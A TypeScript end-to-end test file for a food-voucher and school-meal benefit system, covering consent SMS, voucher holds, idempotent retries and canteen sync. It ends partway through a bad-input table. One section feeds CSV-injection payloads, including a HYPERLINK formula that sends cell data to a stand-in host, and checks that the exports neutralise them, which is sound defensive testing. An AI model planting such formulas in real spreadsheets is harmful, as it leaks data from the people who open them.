/**
 * Both programs end to end over real HTTP against the real system (embedded Postgres, projection
 * runner, scheduler driven by a VirtualClock): a family's food-voucher month and a pupil's
 * school-meal path, each ending in the right read-model rows; object-level checks with that data;
 * and a bad-input table that must answer problem+json and append nothing.
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { makeIin } from '../domain/shared/iin';
import { SAMPLE_CATALOGUE } from '../domain/programs/food-list';
import { familyMonthBalance } from '../projections/balances/queries';
import { tabel } from '../projections/tabel/queries';
import { nobdDailyRange } from '../projections/nobd-daily/queries';
import { startTestSystem, type TestSystem } from '../test/system';

let t: TestSystem;
beforeAll(async () => {
  t = await startTestSystem('2026-03-02T04:00:00.000Z', {
    counterparts: {
      shops: [
        { shopId: 'shop-1', city: 'kokshetau' },
        { shopId: 'shop-2', city: 'pavlodar' },
      ],
      devices: [
        { deviceId: 'dev-1', schoolId: 'school-1' },
        { deviceId: 'dev-9', schoolId: 'school-9' },
        { deviceId: 'dev-7', schoolId: 'school-7' },
      ],
    },
  });
});
afterAll(async () => t?.close());

const ELIGIBLE_SKU = Object.keys(SAMPLE_CATALOGUE)[0]!;
const head = makeIin('1990-04-12', 'female', 11);
const member = makeIin('2015-06-01', 'male', 12);
const otherHead = makeIin('1985-01-20', 'male', 13);
const mother = makeIin('1992-02-03', 'female', 14);
const pupil = makeIin('2018-09-09', 'male', 15);
const PHONE = '+77010000001';
const MOTHER_PHONE = '+77010000002';
const sdu = { role: 'sdu', sub: 'sdu-akmola' } as const;
const nobd = { role: 'nobd', sub: 'nobd' } as const;
const gateway = { role: 'sms-gateway', sub: 'gw' } as const;
const shop = { role: 'merchant', sub: 'shop-1', shopId: 'shop-1' } as const;
const otherShop = { role: 'merchant', sub: 'shop-2', shopId: 'shop-2' } as const;
const device = { role: 'canteen-device', sub: 'dev-1', deviceId: 'dev-1', schoolId: 'school-1' } as const;
const pedagogue = { role: 'social-pedagogue', sub: 'ped-1', schoolId: 'school-1' } as const;
const ministry = { role: 'ministry', sub: 'min-1' } as const;

const citizenOf = (familyId: string, iin: string) => ({ role: 'citizen', sub: `c-${familyId}`, familyId, personId: t.system.vault.pseudonymise(iin) }) as const;

describe('a family’s food-voucher month', () => {
  let voucherIds: string[] = [];
  let holdId = '';
  let qr = '';

  it('takes the SDU list and opens consent cases', async () => {
    await t.system.phones.load([
      [head, PHONE],
      [otherHead, '+77010000009'],
    ]);
    const answer = await t.call('POST', '/v1/lists/food-vouchers', {
      token: await t.token(sdu),
      body: {
        listId: 'sdu-2026-03-a',
        month: '2026-03',
        rows: [
          {
            familyId: 'fam-A',
            city: 'Kokshetau',
            aspOnDate: '2026-02-28',
            head: { iin: head, fullName: 'Айгерим' },
            members: [{ iin: head }, { iin: member }],
          },
          { familyId: 'fam-B', city: 'Kokshetau', aspOnDate: '2026-02-28', head: { iin: otherHead }, members: [{ iin: otherHead }], language: 'kk' },
          {
            familyId: 'fam-C',
            city: 'Almaty',
            aspOnDate: '2026-02-28',
            head: { iin: makeIin('1970-01-01', 'male', 16) },
            members: [{ iin: makeIin('1970-01-01', 'male', 16) }],
          },
        ],
      },
    });
    expect(answer.status).toBe(201);
    expect(answer.body).toMatchObject({ accepted: 2, rejected: 1 });
    expect(answer.body.rows[2]).toMatchObject({ rowNo: 3, outcome: 'not_in_pilot_city' });
    expect(answer.text).not.toContain(head);
    const view = await t.call('GET', '/v1/lists/sdu/sdu-2026-03-a', { token: await t.token(sdu) });
    expect(view.body).toMatchObject({ processed: true, accepted: 2, rejected: 1 });
    await t.settle(); // returns are a read model
    const returns = await t.call('GET', '/v1/lists/sdu/sdu-2026-03-a/returns?format=csv', { token: await t.token(sdu) });
    expect(returns.text).toContain('not_in_pilot_city');
    // The refused family's head is returned by pseudonym; the vault keeps neither IIN nor name of a refused row.
    const refused = t.system.vault.pseudonymise(makeIin('1970-01-01', 'male', 16));
    expect(returns.text).toContain(refused);
    expect(await t.system.vault.get(refused)).toBeUndefined();
    expect(await t.system.vault.get(t.system.vault.pseudonymise(head))).toMatchObject({ fullName: 'Айгерим' });
  });

  it('sends the start SMS on the 5th; the gateway pulls it with the phone and reports it sent', async () => {
    t.clock.set('2026-03-05T04:00:00.000Z');
    await t.system.scheduler.tick();
    const pulled = await t.call('GET', '/v1/sms/outbound', { token: await t.token(gateway) });
    const mine = pulled.body.messages.find((m: { phone: string }) => m.phone.endsWith('7010000001'));
    expect(mine).toBeDefined();
    expect(mine.text).toContain('21*1');
    // The annex's own text (seed 004), in the language of the list row (fam-B: Kazakh, seed 003).
    expect(mine).toMatchObject({ language: 'ru' });
    expect(mine.text.startsWith('Уважаемый пользователь!\nВашей семье доступна скидка')).toBe(true);
    const kazakh = pulled.body.messages.find((m: { phone: string }) => m.phone.endsWith('7010000009'));
    expect(kazakh).toMatchObject({ language: 'kk' });
    expect(kazakh.text.startsWith('Құрметті пайдаланушы!')).toBe(true);
    const delivered = await t.call('POST', `/v1/sms/outbound/${encodeURIComponent(mine.messageId)}/delivery`, {
      token: await t.token(gateway),
      body: { status: 'sent', at: '2026-03-05T04:00:05Z', gatewayRef: 'gw-1' },
    });
    expect(delivered.status).toBe(204);
    await t.settle(); // the outbox is a read model: a message may be offered again until the report is applied
    const again = await t.call('GET', '/v1/sms/outbound', { token: await t.token(gateway) });
    expect(again.body.messages.map((m: { messageId: string }) => m.messageId)).not.toContain(mine.messageId);
  });

  it('takes the reply 21*1 and issues one voucher per member', async () => {
    const reply = await t.call('POST', '/v1/sms/inbound', {
      token: await t.token(gateway),
      body: { phone: PHONE, text: ' 21*1 ', receivedAt: '2026-03-05T05:00:00Z' },
    });
    expect(reply.status).toBe(200);
    expect(reply.body.outcome).toBe('consent_given');
    await t.settle();
    const mine = await t.call('GET', '/v1/me/vouchers', { token: await t.token(citizenOf('fam-A', head)) });
    voucherIds = mine.body.vouchers.filter((v: { program: string }) => v.program === 'food-vouchers').map((v: { voucherId: string }) => v.voucherId);
    expect(voucherIds).toHaveLength(2);
  });

  it('takes delivery reports in bulk: each answered on its own, an unknown message refused without stopping the rest', async () => {
    const pulled = await t.call('GET', '/v1/sms/outbound', { token: await t.token(gateway) });
    const confirmation = pulled.body.messages.find((m: { kind: string; phone: string }) => m.kind === 'consent_confirmed' && m.phone.endsWith('7010000001'));
    expect(confirmation).toBeDefined();
    const reports = [
      { messageId: 'consent-food-vouchers-nobody~2026-03#9', status: 'sent', at: '2026-03-05T05:00:05Z' },
      { messageId: confirmation.messageId, status: 'sent', at: '2026-03-05T05:00:05Z', gatewayRef: 'gw-2' },
    ];
    const first = await t.call('POST', '/v1/sms/outbound/deliveries', { token: await t.token(gateway), idempotencyKey: 'dlr-1', body: { reports } });
    expect(first.status).toBe(200);
    expect(first.body.results).toEqual([
      { messageId: reports[0]!.messageId, outcome: 'refused', code: expect.any(String) },
      { messageId: confirmation.messageId, outcome: 'recorded' },
    ]);
    const retried = await t.call('POST', '/v1/sms/outbound/deliveries', { token: await t.token(gateway), idempotencyKey: 'dlr-1', body: { reports } });
    expect([retried.headers.get('idempotent-replayed'), retried.body]).toEqual(['true', first.body]);
    await t.settle();
    const again = await t.call('GET', '/v1/sms/outbound', { token: await t.token(gateway) });
    expect(again.body.messages.map((m: { messageId: string }) => m.messageId)).not.toContain(confirmation.messageId);
    const tooMany = await t.call('POST', '/v1/sms/outbound/deliveries', { token: await t.token(gateway), body: { reports: [] } });
    expect([tooMany.status, tooMany.body.code]).toEqual([400, 'validation_failed']);
  });

  it('lets only the family activate its vouchers (another family: 404)', async () => {
    const other = await t.call('POST', `/v1/me/vouchers/${encodeURIComponent(voucherIds[0]!)}/activate`, {
      token: await t.token(citizenOf('fam-B', otherHead)),
    });
    expect(other.status).toBe(404);
    expect(other.body.code).toBe('voucher_not_found');
    const first = await t.call('POST', `/v1/me/vouchers/${encodeURIComponent(voucherIds[0]!)}/activate`, { token: await t.token(citizenOf('fam-A', head)) });
    expect(first.status).toBe(200);
    // "Activate all" takes the rest of the month's vouchers; a repeat finds nothing left to activate.
    const all = await t.call('POST', '/v1/me/food-vouchers/2026-03/activate', { token: await t.token(citizenOf('fam-A', head)) });
    expect(all.status).toBe(200);
    expect(all.body.activated).toEqual(voucherIds.slice(1));
    const again = await t.call('POST', '/v1/me/food-vouchers/2026-03/activate', { token: await t.token(citizenOf('fam-A', head)) });
    expect(again.body).toEqual({ activated: [] });
    const none = await t.call('POST', '/v1/me/food-vouchers/2026-03/activate', { token: await t.token(citizenOf('fam-C', otherHead)) });
    expect([none.status, none.body.code]).toEqual([404, 'voucher_not_found']);
  });

  it('issues a QR (JSON, PNG, SVG); another family cannot', async () => {
    const citizen = await t.token(citizenOf('fam-A', head));
    const answer = await t.call('POST', `/v1/me/vouchers/${encodeURIComponent(voucherIds[0]!)}/qr`, { token: citizen });
    expect(answer.status).toBe(201);
    qr = answer.body.token;
    expect(qr).not.toContain(head);
    const png = await fetch(`${t.system.url}/v1/me/vouchers/${encodeURIComponent(voucherIds[0]!)}/qr.png`, { headers: { authorization: `Bearer ${citizen}` } });
    expect(png.headers.get('content-type')).toBe('image/png');
    expect(
      Buffer.from(await png.arrayBuffer())
        .subarray(1, 4)
        .toString(),
    ).toBe('PNG');
    const svg = await t.call('GET', `/v1/me/vouchers/${encodeURIComponent(voucherIds[0]!)}/qr.svg`, { token: citizen });
    expect(svg.text).toContain('<svg');
    const other = await t.call('POST', `/v1/me/vouchers/${encodeURIComponent(voucherIds[0]!)}/qr`, { token: await t.token(citizenOf('fam-B', otherHead)) });
    expect(other.status).toBe(404);
  });

  it('authorizes a basket: eligible items held, the rest paid otherwise; the QR cannot be used twice', async () => {
    const balance = await t.call('POST', '/v1/shop/balance', { token: await t.token(shop), body: { token: qr } });
    expect(balance.body).toMatchObject({ familyId: 'fam-A', availableTiyn: 865_000 });
    const items = [
      { sku: ELIGIBLE_SKU, name: 'Молоко', quantity: 2, unit: 'pcs', unitPriceTiyn: 45_000 },
      { sku: 'X-CIGARETTES', name: 'Not food', quantity: 1, unit: 'pcs', unitPriceTiyn: 10_000 },
    ];
    const held = await t.call('POST', '/v1/shop/holds', { token: await t.token(shop), idempotencyKey: 'sale-1', body: { token: qr, items } });
    expect(held.status).toBe(201);
    expect(held.body).toMatchObject({ basketTiyn: 100_000, eligibleTiyn: 90_000, heldTiyn: 90_000, remainderTiyn: 10_000 });
    expect(held.body.items.map((i: { eligible: boolean }) => i.eligible)).toEqual([true, false]);
    holdId = held.body.holdId;
    const replay = await t.call('POST', '/v1/shop/holds', { token: await t.token(shop), idempotencyKey: 'sale-1', body: { token: qr, items } });
    expect(replay.text).toBe(held.text);
    const reused = await t.call('POST', '/v1/shop/holds', { token: await t.token(shop), idempotencyKey: 'sale-2', body: { token: qr, items } });
    expect(reused.status).toBe(422);
    expect(reused.body.code).toBe('qr_token_reused');
  });

  it('runs one of six concurrent retries with one key and two bodies; its body gets its answer, the other 409', async () => {
    const fresh = await t.call('POST', `/v1/me/vouchers/${encodeURIComponent(voucherIds[0]!)}/qr`, { token: await t.token(citizenOf('fam-A', head)) });
    const line = (quantity: number) => [{ sku: ELIGIBLE_SKU, name: 'Хлеб', quantity, unit: 'pcs', unitPriceTiyn: 20_000 }];
    const shopToken = await t.token(shop);
    const before = await t.eventCount();
    const answers = await Promise.all(
      Array.from({ length: 6 }, (_, i) =>
        t.call('POST', '/v1/shop/holds', { token: shopToken, idempotencyKey: 'sale-race', body: { token: fresh.body.token, items: line(1 + (i % 2)) } }),
      ),
    );
    const won = answers.filter((a) => a.status === 201);
    expect(won).toHaveLength(3);
    expect(new Set(won.map((a) => a.text)).size).toBe(1);
    expect(answers.filter((a) => a.status === 409).map((a) => a.body.code)).toEqual(Array(3).fill('idempotency_key_reused_with_different_body'));
    expect(await t.eventCount()).toBe(before + 3); // the hold, its expiry deadline, the hold index entry
    const voided = await t.call('POST', `/v1/shop/holds/${won[0]!.body.holdId}/void`, { token: shopToken, idempotencyKey: 'void-race' });
    expect(voided.status).toBe(200);
  });

  it('answers a retry of a committed authorization with its first answer after the QR expired (its idempotency record lost)', async () => {
    const fresh = await t.call('POST', `/v1/me/vouchers/${encodeURIComponent(voucherIds[0]!)}/qr`, { token: await t.token(citizenOf('fam-A', head)) });
    const body = { token: fresh.body.token, items: [{ sku: ELIGIBLE_SKU, name: 'Хлеб', quantity: 1, unit: 'pcs', unitPriceTiyn: 20_000 }] };
    const first = await t.call('POST', '/v1/shop/holds', { token: await t.token(shop), idempotencyKey: 'sale-crash', body });
    expect(first.status).toBe(201);
    // The service died after the append and before it remembered the answer; it comes back 61 s later.
    await t.system.pool.query(`delete from api_idempotency where key = 'sale-crash'`);
    t.clock.advance(61);
    const before = await t.eventCount();
    const retried = await t.call('POST', '/v1/shop/holds', { token: await t.token(shop), idempotencyKey: 'sale-crash', body });
    expect([retried.status, retried.text]).toEqual([201, first.text]);
    expect(await t.eventCount()).toBe(before);
    const voided = await t.call('POST', `/v1/shop/holds/${first.body.holdId}/void`, { token: await t.token(shop), idempotencyKey: 'void-crash' });
    expect(voided.status).toBe(200);
  });

  it('answers retries of a committed capture and void with their first answers when their idempotency records were lost', async () => {
    const citizen = await t.token(citizenOf('fam-A', head));
    const basket = [{ sku: ELIGIBLE_SKU, name: 'Хлеб', quantity: 1, unit: 'pcs', unitPriceTiyn: 20_000 }];
    const holds: string[] = [];
    for (const key of ['sale-capture-lost', 'sale-void-lost']) {
      const fresh = await t.call('POST', `/v1/me/vouchers/${encodeURIComponent(voucherIds[0]!)}/qr`, { token: citizen });
      const held = await t.call('POST', '/v1/shop/holds', {
        token: await t.token(shop),
        idempotencyKey: key,
        body: { token: fresh.body.token, items: basket },
      });
      expect(held.status).toBe(201);
      holds.push(held.body.holdId);
    }
    const calls = [
      // A failed payment: the capture route voids the hold, so the family's totals later tests check stay as they were.
      { path: `/v1/shop/holds/${holds[0]}/capture`, key: 'capture-lost', body: { paymentStatus: 'failed' } },
      { path: `/v1/shop/holds/${holds[1]}/void`, key: 'void-lost' },
    ];
    for (const call of calls) {
      const first = await t.call('POST', call.path, { token: await t.token(shop), idempotencyKey: call.key, ...(call.body ? { body: call.body } : {}) });
      expect(first.status).toBe(200);
      // Success answers of these routes are remembered without waiting for the disk: a crash of Postgres may lose one.
      await t.system.pool.query('delete from api_idempotency where key = $1', [call.key]);
      const before = await t.eventCount();
      const retried = await t.call('POST', call.path, { token: await t.token(shop), idempotencyKey: call.key, ...(call.body ? { body: call.body } : {}) });
      expect([retried.status, retried.text]).toEqual([200, first.text]);
      expect(await t.eventCount()).toBe(before);
    }
  });

  it('refuses an expired QR', async () => {
    const fresh = await t.call('POST', `/v1/me/vouchers/${encodeURIComponent(voucherIds[0]!)}/qr`, { token: await t.token(citizenOf('fam-A', head)) });
    t.clock.advance(61);
    const late = await t.call('POST', '/v1/shop/holds', {
      token: await t.token(shop),
      idempotencyKey: 'sale-late',
      body: { token: fresh.body.token, items: [{ sku: ELIGIBLE_SKU, name: 'Хлеб', quantity: 1, unit: 'pcs', unitPriceTiyn: 20_000 }] },
    });
    expect(late.status).toBe(422);
    expect(late.body.code).toBe('qr_token_expired');
  });

  it('captures only the shop’s own hold (another shop: 404)', async () => {
    const other = await t.call('POST', `/v1/shop/holds/${holdId}/capture`, {
      token: await t.token(otherShop),
      idempotencyKey: 'cap-x',
      body: { paymentStatus: 'paid' },
    });
    expect(other.status).toBe(404);
    expect(other.body.code).toBe('hold_not_found');
    const captured = await t.call('POST', `/v1/shop/holds/${holdId}/capture`, {
      token: await t.token(shop),
      idempotencyKey: 'cap-1',
      body: { paymentStatus: 'paid' },
    });
    expect(captured.status).toBe(200);
    expect(captured.body).toMatchObject({ capturedTiyn: 90_000, releasedTiyn: 0, status: 'captured' });
  });

  it('lapses the rest at month end and the read models show it', async () => {
    t.clock.set('2026-03-31T19:00:01.000Z');
    await t.system.scheduler.tick();
    await t.settle();
    const balance = await familyMonthBalance(t.system.pool, 'fam-A', '2026-03');
    expect(balance).toMatchObject({ issuedTiyn: 865_000, spentTiyn: 90_000, heldTiyn: 0, lapsedTiyn: 775_000, availableTiyn: 0 });
    const history = await t.call('GET', '/v1/audit/families/fam-A/history', { token: await t.token({ role: 'auditor', sub: 'aud' }) });
    const types = history.body.events.map((e: { type: string }) => e.type);
    expect(types).toEqual(expect.arrayContaining(['ConsentGiven', 'FoodVouchersIssued', 'FoodPurchaseCaptured', 'FoodVouchersLapsed']));
    expect(history.text).not.toContain(head);
    // The wallet's "History" (seed 004 p. 27): the family's own steps, in order, no personal data, no internal metadata.
    const mine = await t.call('GET', '/v1/me/history', { token: await t.token(citizenOf('fam-A', head)) });
    expect(mine.status).toBe(200);
    expect(mine.headers.get('cache-control')).toBe('no-store');
    const steps = mine.body.events.map((e: { type: string }) => e.type);
    expect(steps).toEqual(expect.arrayContaining(['ConsentGiven', 'FoodVouchersIssued', 'FoodVoucherActivated', 'FoodPurchaseCaptured', 'FoodVouchersLapsed']));
    expect(steps.indexOf('FoodVouchersIssued')).toBeLessThan(steps.indexOf('FoodVouchersLapsed'));
    const ats = mine.body.events.map((e: { at: string }) => e.at);
    expect(ats).toEqual([...ats].sort());
    expect(Object.keys(mine.body.events[0]).sort()).toEqual(['at', 'stream', 'type']);
    expect(mine.body.vouchers.map((v: { voucherId: string }) => v.voucherId)).toEqual(expect.arrayContaining(voucherIds));
    expect(mine.text).not.toContain(head);
    expect(mine.text).not.toContain(PHONE.slice(1));
    // Another family sees only its own history: fam-B never consented, so none of fam-A's steps.
    const theirs = await t.call('GET', '/v1/me/history', { token: await t.token(citizenOf('fam-B', otherHead)) });
    expect(theirs.status).toBe(200);
    expect(theirs.body.familyId).toBe('fam-B');
    expect(theirs.text).not.toContain('fam-A');
    expect(theirs.body.events.map((e: { type: string }) => e.type)).not.toContain('FoodVouchersIssued');
    const before = await t.call('GET', '/v1/audit/families/fam-A/history?asOf=2026-03-04T00:00:00Z', { token: await t.token({ role: 'auditor', sub: 'aud' }) });
    expect(before.body.events.map((e: { type: string }) => e.type)).not.toContain('FoodVouchersIssued');
    const outcomes = await t.call('GET', '/v1/ministry/outcomes?program=food-vouchers&month=2026-03&format=csv', {
      token: await t.token({ role: 'ministry', sub: 'min' }),
    });
    expect(outcomes.status).toBe(200);
    expect(outcomes.contentType).toMatch(/text\/csv/);
  });
});

describe('a pupil’s school-meal path', () => {
  let voucherId = '';
  const parent = () => t.token(citizenOf('fam-M', mother));
  const qrFor = async () => (await t.call('POST', `/v1/me/vouchers/${encodeURIComponent(voucherId)}/qr`, { token: await parent() })).body.token as string;

  it('takes the NOBD list (CSV); a primary-grade pupil gets a voucher without SMS', async () => {
    t.clock.set('2026-04-06T03:00:00.000Z'); // Monday 08:00 in Almaty
    await t.system.phones.load([[mother, MOTHER_PHONE]]);
    const csv =
      'familyId,pupilIin,pupilName,grade,category,approvedByHead,reconciliationOk,reconciliationReason,representativeRole,representativeIin,representativeName\n' +
      `fam-M,${pupil},Нұрсұлтан,2,asp_family,true,true,,mother,${mother},Әлия\n`;
    const answer = await t.call(
      'POST',
      '/v1/lists/school-meals?listId=nobd-school-1-2026-04&month=2026-04&schoolYear=2025-2026&schoolId=school-1&region=akmola',
      {
        token: await t.token(nobd),
        raw: csv,
        contentType: 'text/csv',
      },
    );
    expect(answer.status).toBe(201);
    expect(answer.body).toMatchObject({ accepted: 1, rejected: 0 });
    await t.settle();
    const mine = await t.call('GET', '/v1/me/vouchers', { token: await parent() });
    const meal = mine.body.vouchers.find((v: { program: string }) => v.program === 'school-meals');
    expect(meal).toBeDefined();
    voucherId = meal.voucherId;
  });

  it('keeps no IIN or name of a refused row in the vault; the return names it by pseudonym', async () => {
    const notApproved = makeIin('2016-02-02', 'male', 18);
    const itsMother = makeIin('1988-08-08', 'female', 19);
    const csv =
      'familyId,pupilIin,pupilName,grade,category,approvedByHead,representativeRole,representativeIin,representativeName\n' +
      `fam-R,${notApproved},Ерлан,2,asp_family,false,mother,${itsMother},Гүлнар\n`;
    const answer = await t.call(
      'POST',
      '/v1/lists/school-meals?listId=nobd-school-1-2026-04-r&month=2026-04&schoolYear=2025-2026&schoolId=school-1&region=akmola',
      {
        token: await t.token(nobd),
        raw: csv,
        contentType: 'text/csv',
      },
    );
    expect(answer.body).toMatchObject({ accepted: 0, rejected: 1, rows: [{ rowNo: 1, outcome: 'not_approved_by_head' }] });
    for (const iin of [notApproved, itsMother]) expect(await t.system.vault.get(t.system.vault.pseudonymise(iin))).toBeUndefined();
    await t.settle();
    const returns = await t.call('GET', '/v1/lists/nobd/nobd-school-1-2026-04-r/returns', { token: await t.token(nobd) });
    expect(returns.body.returns).toEqual([
      expect.objectContaining({ rowNo: 1, reason: 'not_approved_by_head', personId: t.system.vault.pseudonymise(notApproved) }),
    ]);
  });

  it('the parent activates it', async () => {
    const answer = await t.call('POST', `/v1/me/vouchers/${encodeURIComponent(voucherId)}/activate`, { token: await parent() });
    expect(answer.status).toBe(200);
  });

  it('syncs an offline batch: a meal, a resend (harmless), a second meal the same day (refused)', async () => {
    // The device was offline: two scans at lunch, synced later.
    t.clock.set('2026-04-06T06:00:00.000Z');
    const first = await qrFor();
    t.clock.set('2026-04-06T06:30:00.000Z');
    const second = await qrFor();
    t.clock.set('2026-04-06T07:00:00.000Z');
    const deviceToken = await t.token(device);
    const batch1 = await t.call('POST', '/v1/canteen/batches', {
      token: deviceToken,
      body: { batchId: 'b-1', records: [{ seq: 1, token: first, scannedAt: '2026-04-06T06:00:10Z' }] },
    });
    expect(batch1.status).toBe(200);
    expect(batch1.body.results).toEqual([expect.objectContaining({ seq: 1, outcome: 'meal_recorded', repeated: false })]);
    const batch2 = await t.call('POST', '/v1/canteen/batches', {
      token: deviceToken,
      body: {
        batchId: 'b-2',
        records: [
          { seq: 1, token: first, scannedAt: '2026-04-06T06:00:10Z' },
          { seq: 2, token: second, scannedAt: '2026-04-06T06:30:10Z' },
        ],
      },
    });
    expect(batch2.body.results).toEqual([
      expect.objectContaining({ seq: 1, outcome: 'meal_recorded', repeated: true }),
      expect.objectContaining({ seq: 2, outcome: 'meal_already_recorded_today', repeated: false }),
    ]);
  });

  it('tells a device of another school no more of a pupil than of one no list names (no voucher id, no code of its own)', async () => {
    const foreign = await t.token({ ...device, sub: 'dev-9', deviceId: 'dev-9', schoolId: 'school-9' });
    const stranger = makeIin('2017-05-05', 'female', 17);
    const records = [
      { seq: 1, token: await qrFor(), scannedAt: '2026-04-06T07:00:10Z' },
      { seq: 2, cardIin: pupil, scannedAt: '2026-04-06T07:00:20Z' },
      { seq: 3, cardIin: stranger, scannedAt: '2026-04-06T07:00:30Z' },
    ];
    await t.settle();
    const answer = await t.call('POST', '/v1/canteen/batches', { token: foreign, body: { batchId: 'b-9', records } });
    expect(answer.body.results).toEqual([
      { seq: 1, outcome: 'voucher_not_found', repeated: false },
      { seq: 2, outcome: 'card_not_recognised', repeated: false },
      { seq: 3, outcome: 'card_not_recognised', repeated: false },
    ]);
    const resent = await t.call('POST', '/v1/canteen/batches', { token: foreign, body: { batchId: 'b-9', records } });
    expect(resent.body.results.map((r: { outcome: string; voucherId?: string }) => [r.outcome, r.voucherId])).toEqual([
      ['voucher_not_found', undefined],
      ['card_not_recognised', undefined],
      ['card_not_recognised', undefined],
    ]);
    expect(answer.text).not.toContain(voucherId);
    // The ledger keeps the truth in the pupil's stream: two refusals, for the family's history.
    await t.settle();
    const refusals = (await t.call('GET', '/v1/me/history', { token: await parent() })).body.events.filter((e: { type: string }) => e.type === 'MealRefused');
    expect(refusals).toHaveLength(3); // and the second meal of the day, refused earlier
  });

  it('ends in the табель and the NOBD daily report', async () => {
    await t.settle();
    const sheet = await tabel(t.system.pool, { schoolId: 'school-1', month: '2026-04', now: t.clock.now() });
    expect(sheet.mealCount).toBe(1);
    expect(sheet.pupils).toEqual([expect.objectContaining({ pupilId: t.system.vault.pseudonymise(pupil), total: 1 })]);
    const daily = await nobdDailyRange(t.system.pool, { from: '2026-04-06', to: '2026-04-06', schoolId: 'school-1' });
    expect(daily[0]).toMatchObject({ vouchersActivated: 1, mealsProvided: 1 });
    const ped = await t.token(pedagogue);
    const csv = await t.call('GET', '/v1/schools/school-1/tabel/2026-04?format=csv', { token: ped });
    expect(csv.contentType).toMatch(/text\/csv/);
    // The pedagogue signs a sheet of names (from the vault), not of pseudonyms.
    expect(csv.text).toContain(`${t.system.vault.pseudonymise(pupil)},Нұрсұлтан,`);
    const html = await t.call('GET', '/v1/schools/school-1/tabel/2026-04?format=html', { token: ped });
    expect(html.contentType).toMatch(/text\/html/);
    expect(html.text).toContain('Нұрсұлтан');
    expect((await t.call('GET', '/v1/schools/school-2/tabel/2026-04', { token: ped })).status).toBe(403);
    const report = await t.call('GET', '/v1/schools/school-1/daily/2026-04-06', { token: ped });
    expect(report.status).toBe(200);
  });

  it('records a rating for the school’s canteen, addressed to the local education body; e-Otinish gets it from the outbox', async () => {
    const answer = await t.call('POST', '/v1/me/feedback', { token: await parent(), body: { program: 'school-meals', voucherId, kind: 'rating', rating: 5 } });
    expect(answer.status).toBe(201);
    expect(answer.body).toMatchObject({ status: 'pending', addressee: { code: 'education-authority:akmola' }, concerns: { schoolId: 'school-1' } });
  });
});

describe('text that a spreadsheet would run, in the files people open', () => {
  // A name or a region that starts with = + - @ is a formula to Excel: the CSVs show it as text.
  const hostilePupil = makeIin('2019-01-02', 'female', 21);
  const hostileMother = makeIin('1990-03-04', 'female', 22);
  const NAME = '=HYPERLINK("http://x.example/?"&A1,"open")';
  const REGION = '@SUM(1+1)';

  it('neutralises them in the табель and outcomes CSVs, and escapes them in the HTML', async () => {
    t.clock.set('2026-04-06T07:00:00.000Z');
    const csv =
      'familyId,pupilIin,pupilName,grade,category,approvedByHead,representativeRole,representativeIin,representativeName\n' +
      `fam-X,${hostilePupil},"${NAME.replace(/"/g, '""')}",1,asp_family,true,mother,${hostileMother},-2+3\n`;
    const list = await t.call(
      'POST',
      `/v1/lists/school-meals?listId=nobd-school-7-2026-04&month=2026-04&schoolYear=2025-2026&schoolId=school-7&region=${encodeURIComponent(REGION)}`,
      {
        token: await t.token(nobd),
        raw: csv,
        contentType: 'text/csv',
      },
    );
    expect(list.body).toMatchObject({ accepted: 1 });
    await t.settle();
    const parent = await t.token(citizenOf('fam-X', hostileMother));
    const voucher = (await t.call('GET', '/v1/me/vouchers', { token: parent })).body.vouchers.find((v: { program: string }) => v.program === 'school-meals');
    expect((await t.call('POST', `/v1/me/vouchers/${encodeURIComponent(voucher.voucherId)}/activate`, { token: parent })).status).toBe(200);
    const canteen = await t.token({ role: 'canteen-device', sub: 'dev-7', deviceId: 'dev-7', schoolId: 'school-7' });
    const meal = await t.call('POST', '/v1/canteen/batches', {
      token: canteen,
      body: { batchId: 'b-7', records: [{ seq: 1, cardIin: hostilePupil, scannedAt: '2026-04-06T07:00:10Z' }] },
    });
    expect(meal.body.results[0].outcome).toBe('meal_recorded');
    await t.settle();
    const pedagogue7 = await t.token({ role: 'social-pedagogue', sub: 'ped-7', schoolId: 'school-7' });
    const sheet = await t.call('GET', '/v1/schools/school-7/tabel/2026-04?format=csv', { token: pedagogue7 });
    expect(sheet.text).toContain(`"'${NAME.replace(/"/g, '""')}"`);
    expect(sheet.text).not.toMatch(/(^|,)=HYPERLINK/m);
    const html = await t.call('GET', '/v1/schools/school-7/tabel/2026-04?format=html', { token: pedagogue7 });
    expect(html.text).toContain('=HYPERLINK(&quot;http://x.example/?&quot;&amp;A1,&quot;open&quot;)');
    const outcomes = await t.call('GET', '/v1/ministry/outcomes?program=school-meals&month=2026-04&format=csv', { token: await t.token(ministry) });
    expect(outcomes.text).toContain(`"'${REGION}"`);
    expect(outcomes.text).not.toMatch(/(^|,)@SUM/m);
  });
});

describe('bad input answers problem+json and appends nothing', () => {
  const basketLine = (unitPriceTiyn: number) => ({ sku: 'a', name: 'a', quantity: 1, unit: 'pcs', unitPriceTiyn });
  const foodRow = (city: string) => ({ familyId: 'f', city, aspOnDate: '2026-02-28', head: { iin: head }, members: [{ iin: head }] });
  const MEALS_CSV_QUERY = 'listId=L-nul&month=2026-04&schoolYear=2025-2026&schoolId=school-1';
  const MEALS_CSV_HEADER = 'familyId,pupilIin,pupilName,grade,category,approvedByHead';
  /** [name, method, path, options, status, code, the field the problem must name] */
  const cases: [string, string, string, Record<string, unknown>, number, string, string?][] = [
    ['malformed JSON', 'POST', '/v1/shop/holds', { raw: '{"token":', contentType: 'application/json', idempotencyKey: 'bad-1' }, 400, 'malformed_json'],
    ['wrong types', 'POST', '/v1/shop/holds', { body: { token: 5, items: 'milk' }, idempotencyKey: 'bad-2' }, 400, 'validation_failed'],
    [
      'negative amount',
      'POST',
      '/v1/shop/holds',
      { body: { token: 't', items: [{ sku: 'a', name: 'a', quantity: 1, unit: 'pcs', unitPriceTiyn: -1 }] }, idempotencyKey: 'bad-3' },
      400,
      'validation_failed',
    ],
    [
      'fractional amount',
      'POST',
      '/v1/shop/holds',
      { body: { token: 't', items: [{ sku: 'a', name: 'a', quantity: 1, unit: 'pcs', unitPriceTiyn: 0.5 }] }, idempotencyKey: 'bad-4' },
      400,
      'validation_failed',
    ],
    [
      'amount beyond safe integers',
      'POST',
      '/v1/shop/holds',
      { body: { token: 't', items: [{ sku: 'a', name: 'a', quantity: 1, unit: 'pcs', unitPriceTiyn: 2 ** 60 }] }, idempotencyKey: 'bad-5' },
      400,
      'validation_failed',
    ],
    [
      'forged QR token',
      'POST',
      '/v1/shop/holds',
      {
        body: { token: 'eyJ2IjoiZmFtLUF-MjAyNi0wMyJ9.AAAA', items: [{ sku: 'a', name: 'a', quantity: 1, unit: 'pcs', unitPriceTiyn: 1 }] },
        idempotencyKey: 'bad-6',
      },
      400,
